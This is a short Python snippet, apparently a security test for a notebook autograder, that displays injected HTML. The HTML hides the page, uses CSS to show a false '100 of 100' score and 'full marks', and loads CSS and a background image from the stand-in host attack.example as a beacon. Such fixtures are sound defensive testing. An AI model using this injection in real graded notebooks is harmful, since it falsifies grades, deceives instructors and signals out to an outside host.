"""Displays style that hides the page, changes the score shown, and loads a file.

Succeeds if it acts in a feedback page, in formgrader or in the terminal.
"""

from IPython.display import HTML, display

display(
    HTML(
        f"<style>@import url('https://attack.example/{MARK}.css');"
        "body {visibility: hidden} .total::after {content: '100 of 100'}</style>"
        f"<p style=\"background: url('https://attack.example/{MARK}')\">full marks</p>"
    )
)
